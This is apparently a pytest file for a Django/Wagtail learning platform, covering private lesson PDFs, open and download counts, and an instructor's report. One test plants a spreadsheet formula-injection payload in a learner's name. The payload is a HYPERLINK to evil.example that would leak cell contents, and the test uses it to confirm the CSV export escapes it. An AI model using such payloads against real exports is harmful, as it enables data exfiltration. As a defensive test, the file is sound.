"""Lesson PDFs: private files (Wagtail's serve hook + reference index), opening and download counts,
the instructor's report and the PDF block's editor validation."""

from decimal import Decimal

import pytest
from django.test import Client
from rest_framework.test import APIClient
from wagtail.blocks import StructBlockValidationError

from tests.support import lessons_of, make_user
from courses.blocks.documents import PDFBlock
from enrolment.documents import document_access, document_usage_for, lessons_using_document, usage_rows
from enrolment.models import BlockProgress, Enrolment, LessonProgress
from enrolment.services import enrol
from tests.support.pdfs import fetch_url, make_document, minimal_pdf, pdf_block


@pytest.fixture(autouse=True)
def cheap_test_clients(settings):
    # New test clients make WhiteNoise index every static file; these tests fetch none.
    settings.WHITENOISE_AUTOREFRESH = True


ROLES = ("anonymous", "not_enrolled", "other_student", "other_instructor", "owner", "moderator", "admin", "enrolled_student")


def client_as(user):
    client = Client()
    if user is not None:
        client.force_login(user)
    return client


def api_as(user):
    client = APIClient()
    if user is not None:
        client.force_login(user)
    return client


def body_of(response):
    return b"".join(response.streaming_content) if response.streaming else response.content


def state():
    """Everything opening or downloading may write, to assert that a refused request wrote nothing."""
    return (
        list(BlockProgress.objects.order_by("pk").values_list(
            "user_id", "lesson_id", "block_id", "open_count", "download_count", "is_satisfied")),
        list(LessonProgress.objects.order_by("pk").values_list("user_id", "lesson_id", "status")),
        list(Enrolment.objects.order_by("pk").values_list("pk", "progress", "completed_at")),
    )


@pytest.fixture
def document(instructor):
    return make_document("Budget worksheet", "budget-worksheet.pdf")


@pytest.fixture
def lesson(course, document):
    """The course's first lesson (no prerequisites) with one PDF block that counts when opened."""
    lesson = lessons_of(course)[0]
    lesson.body = [
        {"type": "rich_text", "value": "<p>Fill in the worksheet.</p>", "id": "text1"},
        pdf_block(document, "pdf1"),
    ]
    lesson.save()
    return lesson


@pytest.fixture
def people(db, student, other_student, instructor, other_instructor, moderator, admin_user, course, other_course):
    enrol(student, course)
    enrol(other_student, other_course)
    return {
        "anonymous": None,
        "not_enrolled": make_user("sipho@example.com", "Students", first_name="Sipho"),
        "other_student": other_student,
        "other_instructor": other_instructor,
        "owner": instructor,
        "moderator": moderator,
        "admin": admin_user,
        "enrolled_student": student,
    }


def fetch_as_everyone(people, url):
    return {role: client_as(user).get(url).status_code for role, user in people.items()}


# --- who may fetch the file -------------------------------------------------------------------


def test_reference_index_finds_the_lesson_that_uses_the_document(lesson, document, course):
    assert [found.pk for found in lessons_using_document(document)] == [lesson.pk]

    lesson.body = [{"type": "rich_text", "value": "<p>No worksheet any more.</p>", "id": "text1"}]
    lesson.save()

    assert lessons_using_document(document) == []


def test_lesson_pdf_answers_only_to_people_who_may_open_the_lesson(people, lesson, document):
    answers = fetch_as_everyone(people, fetch_url(document, lesson, "pdf1"))

    assert answers == {
        "anonymous": 403, "not_enrolled": 403, "other_student": 403, "other_instructor": 403,
        "owner": 200, "moderator": 200, "admin": 200, "enrolled_student": 200,
    }


def test_the_direct_link_without_parameters_is_refused_just_the_same(people, lesson, document):
    answers = fetch_as_everyone(people, document.url)

    assert [role for role, status in answers.items() if status == 200] == ["owner", "moderator", "admin", "enrolled_student"]
    assert {status for status in answers.values()} == {200, 403}


def test_enrolled_student_and_owner_receive_the_real_pdf(people, lesson, document):
    for role in ("enrolled_student", "owner"):
        response = client_as(people[role]).get(fetch_url(document, lesson, "pdf1"))

        assert response.status_code == 200
        assert response["Content-Type"] == "application/pdf"
        content = body_of(response)
        assert content.startswith(b"%PDF-1.4") and content.rstrip().endswith(b"%%EOF")
        assert content == minimal_pdf("Budget worksheet")


def test_refusal_is_a_403_with_a_short_message_not_a_login_redirect(people, lesson, document):
    anonymous = client_as(None).get(document.url)
    stranger = client_as(people["not_enrolled"]).get(document.url)

    assert anonymous.status_code == 403 and "Location" not in anonymous
    assert b"Log in and enrol" in anonymous.content
    assert stranger.status_code == 403 and b"students of its course" in stranger.content
    assert b"%PDF" not in anonymous.content + stranger.content
    assert anonymous["Cache-Control"] == "private, no-store"


def test_a_document_no_lesson_uses_is_served_to_everyone(people, lesson):
    site_document = make_document("Terms of use", "terms.pdf")

    answers = fetch_as_everyone(people, site_document.url)

    assert set(answers.values()) == {200}
    assert body_of(client_as(None).get(site_document.url)).startswith(b"%PDF")


def test_enrolled_student_cannot_fetch_the_pdf_of_a_lesson_still_locked_by_prerequisites(people, course, document):
    locked = lessons_of(course)[1]  # requires lesson 1, which the student has not completed
    locked.body = [pdf_block(document, "pdf9")]
    locked.save()

    assert client_as(people["enrolled_student"]).get(document.url).status_code == 403
    assert client_as(people["owner"]).get(document.url).status_code == 200


def test_pdf_of_a_free_preview_lesson_is_open_to_visitors(people, course, document):
    preview = lessons_of(course)[0]
    preview.is_preview = True
    preview.body = [pdf_block(document, "pdf1")]
    preview.save()

    assert client_as(None).get(document.url).status_code == 200


def test_document_used_in_two_courses_opens_for_the_students_of_either(people, lesson, document, other_course):
    other_lesson = lessons_of(other_course)[0]
    other_lesson.body = [pdf_block(document, "pdfx")]
    other_lesson.save()

    answers = fetch_as_everyone(people, document.url)

    assert answers["other_student"] == 200 and answers["enrolled_student"] == 200
    assert answers["other_instructor"] == 200  # now teaches a lesson that uses it
    assert answers["not_enrolled"] == 403 and answers["anonymous"] == 403


def test_uploader_may_always_fetch_their_own_upload(people, lesson, other_instructor):
    theirs = make_document("Shared handout", "handout.pdf", uploaded_by=other_instructor)
    lesson.body = [pdf_block(theirs, "pdf1")]
    lesson.save()

    assert document_access(other_instructor, theirs).allowed
    assert not document_access(people["not_enrolled"], theirs).allowed


# --- opening through the API ------------------------------------------------------------------


def opened_url(lesson, block_id="pdf1"):
    return f"/api/lessons/{lesson.pk}/documents/{block_id}/opened/"


def test_opening_satisfies_the_block_and_completes_a_lesson_whose_only_requirement_it_is(people, lesson, course):
    student = people["enrolled_student"]

    response = api_as(student).post(opened_url(lesson))

    assert response.status_code == 200
    assert response.json() == {
        "block_id": "pdf1", "is_satisfied": True, "lesson_completed": True, "needs": "",
        "open_count": 1, "download_count": 0,
    }
    row = BlockProgress.objects.get(user=student, lesson=lesson, block_id="pdf1")
    assert (row.block_type, row.open_count, row.is_satisfied) == ("pdf", 1, True)
    assert LessonProgress.objects.get(user=student, lesson=lesson).status == LessonProgress.Status.COMPLETED
    enrolment = Enrolment.objects.get(user=student, course=course)
    assert enrolment.progress == Decimal("16.67")  # 1 of 6 lessons
    lesson_json = api_as(student).get(f"/api/lessons/{lesson.pk}/").json()
    assert lesson_json["is_completed"] is True


def test_each_opening_counts_once_and_satisfaction_happens_once(people, lesson):
    student = people["enrolled_student"]
    api_as(student).post(opened_url(lesson))
    first = BlockProgress.objects.get(user=student, lesson=lesson)

    second = api_as(student).post(opened_url(lesson)).json()

    row = BlockProgress.objects.get(user=student, lesson=lesson)
    assert second["open_count"] == 2 and row.open_count == 2
    assert row.satisfied_at == first.satisfied_at
    assert BlockProgress.objects.filter(user=student).count() == 1


def test_a_pdf_that_does_not_count_is_counted_but_never_completes_the_lesson(people, lesson, document):
    lesson.body = [pdf_block(document, "pdf1", counts_when_opened=False)]
    lesson.save()
    student = people["enrolled_student"]

    body = api_as(student).post(opened_url(lesson)).json()

    assert body == {"block_id": "pdf1", "is_satisfied": False, "lesson_completed": False, "needs": "",
                    "open_count": 1, "download_count": 0}
    assert not LessonProgress.objects.filter(user=student, lesson=lesson, status="completed").exists()


def test_a_lesson_with_another_requirement_waits_for_it(people, lesson, document):
    second = make_document("Second worksheet", "second.pdf")
    lesson.body = [pdf_block(document, "pdf1"), pdf_block(second, "pdf2", title="Second worksheet")]
    lesson.save()
    student = people["enrolled_student"]

    first = api_as(student).post(opened_url(lesson, "pdf1")).json()
    last = api_as(student).post(opened_url(lesson, "pdf2")).json()

    assert first["is_satisfied"] and not first["lesson_completed"]
    assert last["is_satisfied"] and last["lesson_completed"]


@pytest.mark.parametrize("case", ["unknown_block", "text_block", "other_lessons_block", "other_course", "locked_lesson"])
def test_forged_or_foreign_openings_are_refused_and_store_nothing(people, lesson, course, other_course, document, case):
    student = people["enrolled_student"]
    second = lessons_of(course)[1]  # locked: requires the first lesson
    if case == "unknown_block":
        url, expected = opened_url(lesson, "no-such-block"), 400
    elif case == "text_block":
        url, expected = opened_url(lesson, "text1"), 400
    elif case == "other_lessons_block":
        # Lesson 1's block id sent for another lesson the student may open (a free preview).
        third = lessons_of(course)[2]
        third.is_preview = True
        third.prerequisites.clear()  # open to track, so only the block id is wrong
        third.save()
        url, expected = opened_url(third, "pdf1"), 400
    elif case == "other_course":
        url, expected = opened_url(lessons_of(other_course)[0], "pdf1"), 403
    else:
        second.body = [pdf_block(document, "pdf2")]
        second.save()
        url, expected = opened_url(second, "pdf2"), 403
    before = state()

    response = api_as(student).post(url)

    assert response.status_code == expected, response.content
    assert "detail" in response.json() and "code" in response.json()
    assert state() == before


def test_only_enrolled_students_record_openings(people, lesson):
    before = state()

    answers = {role: api_as(user).post(opened_url(lesson)).status_code for role, user in people.items()}

    assert answers == {
        "anonymous": 401, "not_enrolled": 403, "other_student": 403, "other_instructor": 403,
        "owner": 403, "moderator": 403, "admin": 403, "enrolled_student": 200,
    }
    assert len(state()[0]) == 1  # only the enrolled student's row
    assert state()[1:] != before[1:]  # and only their lesson completed


# --- downloads, counted by the serve hook -----------------------------------------------------


def test_download_is_counted_per_student_and_satisfies_a_counting_block(people, lesson, document):
    student = people["enrolled_student"]

    response = client_as(student).get(fetch_url(document, lesson, "pdf1", download=True))
    client_as(student).get(fetch_url(document, lesson, "pdf1", download=True))

    assert response.status_code == 200 and body_of(response).startswith(b"%PDF")
    row = BlockProgress.objects.get(user=student, lesson=lesson, block_id="pdf1")
    assert (row.download_count, row.open_count, row.is_satisfied) == (2, 0, True)
    assert LessonProgress.objects.get(user=student, lesson=lesson).status == LessonProgress.Status.COMPLETED


def test_viewing_the_file_itself_counts_nothing(people, lesson, document):
    client_as(people["enrolled_student"]).get(fetch_url(document, lesson, "pdf1"))

    assert not BlockProgress.objects.exists()


@pytest.mark.parametrize("params", [
    {"block": "no-such-block"},
    {"block": "text1"},
    {"lesson": "999999", "block": "pdf1"},
    {"block": "pdfz", "other_document": True},
])
def test_download_with_forged_parameters_is_served_but_not_counted(people, lesson, document, params):
    if params.get("other_document"):
        other = make_document("Other sheet", "other.pdf")
        lesson.body = list(lesson.body.raw_data) + [pdf_block(other, "pdfz")]
        lesson.save()
    query = f"lesson={params.get('lesson', lesson.pk)}&block={params['block']}&download=1"
    before = state()

    response = client_as(people["enrolled_student"]).get(f"{document.url}?{query}")

    assert response.status_code == 200
    assert state() == before


def test_staff_downloads_are_served_and_not_counted(people, lesson, document):
    response = client_as(people["owner"]).get(fetch_url(document, lesson, "pdf1", download=True))

    assert response.status_code == 200
    assert not BlockProgress.objects.exists()


def test_download_of_a_block_without_download_is_not_counted(people, lesson, document):
    lesson.body = [pdf_block(document, "pdf1", allow_download=False)]
    lesson.save()

    client_as(people["enrolled_student"]).get(fetch_url(document, lesson, "pdf1", download=True))

    assert not BlockProgress.objects.exists()


# --- the block on the lesson page and in the editor -------------------------------------------


def test_lesson_page_shows_the_block_without_fetching_the_pdf(people, lesson, document):
    html = client_as(people["enrolled_student"]).get(lesson.url).content.decode()

    assert "Budget worksheet" in html and "Open the PDF" in html
    assert f'data-view-url="{document.url}?lesson={lesson.pk}&amp;block=pdf1"' in html
    assert f'data-opened-url="/api/lessons/{lesson.pk}/documents/pdf1/opened/"' in html
    assert f'href="{document.url}?lesson={lesson.pk}&amp;block=pdf1&amp;download=1"' in html
    assert "Open this PDF to complete the lesson" in html
    assert "<iframe" not in html.split('class="lesson-body"')[1].split("lesson-actions")[0]  # lazy: built on click
    assert "js/pdf-block.js" in html


def test_lesson_page_shows_opened_and_hides_download_when_not_allowed(people, lesson, document):
    lesson.body = [pdf_block(document, "pdf1", allow_download=False)]
    lesson.save()
    student = people["enrolled_student"]
    api_as(student).post(opened_url(lesson))

    html = client_as(student).get(lesson.url).content.decode()

    assert "Opened ✓" in html
    assert "download=1" not in html and ">Download<" not in html


def test_staff_preview_of_the_block_records_nothing(people, lesson):
    html = client_as(people["owner"]).get(lesson.url).content.decode()

    assert "Open the PDF" in html and "data-opened-url" not in html and "data-pdf-status" not in html


def block_value(document):
    return {"document": document.pk, "title": "Budget", "allow_download": True, "counts_when_opened": True}


def test_pdf_block_refuses_a_document_that_is_not_a_pdf(db):
    sheet = make_document("Spreadsheet", "budget.csv", content=b"month,amount\njan,100\n")
    block = PDFBlock()

    with pytest.raises(StructBlockValidationError) as error:
        block.clean(block.to_python(block_value(sheet)))

    assert "Choose a PDF document." in str(error.value.block_errors["document"])


def test_pdf_block_accepts_a_pdf(db):
    document = make_document()
    block = PDFBlock()

    value = block.clean(block.to_python(block_value(document)))

    assert value["document"].pk == document.pk


# --- the instructor's report ------------------------------------------------------------------


@pytest.fixture
def usage(people, lesson, document, other_course):
    """The enrolled student opened and downloaded the course's PDF; the other student did the same in the other course."""
    other_document = make_document("Spreadsheet basics", "spreadsheets.pdf")
    other_lesson = lessons_of(other_course)[0]
    other_lesson.body = [pdf_block(other_document, "pdfo", title="Spreadsheet basics")]
    other_lesson.save()
    api_as(people["enrolled_student"]).post(opened_url(lesson))
    client_as(people["enrolled_student"]).get(fetch_url(document, lesson, "pdf1", download=True))
    api_as(people["other_student"]).post(opened_url(other_lesson, "pdfo"))
    return lesson, other_lesson


def test_instructor_report_lists_only_their_own_courses(people, usage, course, other_course):
    mine = usage_rows(document_usage_for(people["owner"]))
    theirs = usage_rows(document_usage_for(people["other_instructor"]))
    everything = usage_rows(document_usage_for(people["moderator"]))

    assert [(r.course, r.lesson, r.document, r.student, r.opens, r.downloads) for r in mine] == [
        (course.title, "Lesson 1.1", "Budget worksheet", "Thandi Nkosi", 1, 1),
    ]
    assert [(r.course, r.document, r.student) for r in theirs] == [
        (other_course.title, "Spreadsheet basics", "Pieter Botha"),
    ]
    assert len(everything) == 2
    assert usage_rows(document_usage_for(people["enrolled_student"])) == []
    assert usage_rows(document_usage_for(people["not_enrolled"])) == []


def test_instructor_report_page_in_the_admin(people, usage, course, other_course):
    owner = client_as(people["owner"])

    page = owner.get("/admin/reports/lesson-documents/")
    export = owner.get("/admin/reports/lesson-documents/?export=csv")
    menu = owner.get("/admin/")

    assert page.status_code == 200
    html = page.content.decode()
    assert "Thandi Nkosi" in html and "Budget worksheet" in html
    assert "Pieter Botha" not in html and "Spreadsheet basics" not in html
    csv = b"".join(export.streaming_content).decode()
    assert "Thandi Nkosi" in csv and "Pieter Botha" not in csv
    assert "/admin/reports/lesson-documents/" in menu.content.decode()


def test_a_learner_named_like_a_formula_exports_as_text_not_as_a_formula(people, usage):
    import csv
    import io

    learner = people["enrolled_student"]
    learner.first_name, learner.last_name = '=HYPERLINK("https://evil.example/?d="&A1,"Open")', ""
    learner.email = "+27@example.com"
    learner.save()

    export = client_as(people["owner"]).get("/admin/reports/lesson-documents/?export=csv")

    header, row = list(csv.reader(io.StringIO(b"".join(export.streaming_content).decode())))
    cells = dict(zip(header, row))
    assert cells["student"] == """'=HYPERLINK("https://evil.example/?d="&A1,"Open")"""
    assert cells["email"] == "'+27@example.com"
    assert (cells["course"], cells["opens"], cells["downloads"]) == ("Budgeting basics", "1", "1")


def test_instructor_filters_by_their_course_but_cannot_filter_their_way_into_another(people, usage, course, other_course):
    owner = client_as(people["owner"])

    own = owner.get(f"/admin/reports/lesson-documents/?course={course.pk}").content.decode()
    foreign = owner.get(f"/admin/reports/lesson-documents/?course={other_course.pk}").content.decode()

    assert "Thandi Nkosi" in own
    assert "Pieter Botha" not in foreign
    moderator = client_as(people["moderator"]).get(f"/admin/reports/lesson-documents/?course={other_course.pk}")
    assert "Pieter Botha" in moderator.content.decode() and "Thandi Nkosi" not in moderator.content.decode()


def test_students_have_no_report(people, usage):
    response = client_as(people["enrolled_student"]).get("/admin/reports/lesson-documents/")

    assert response.status_code in (302, 403)
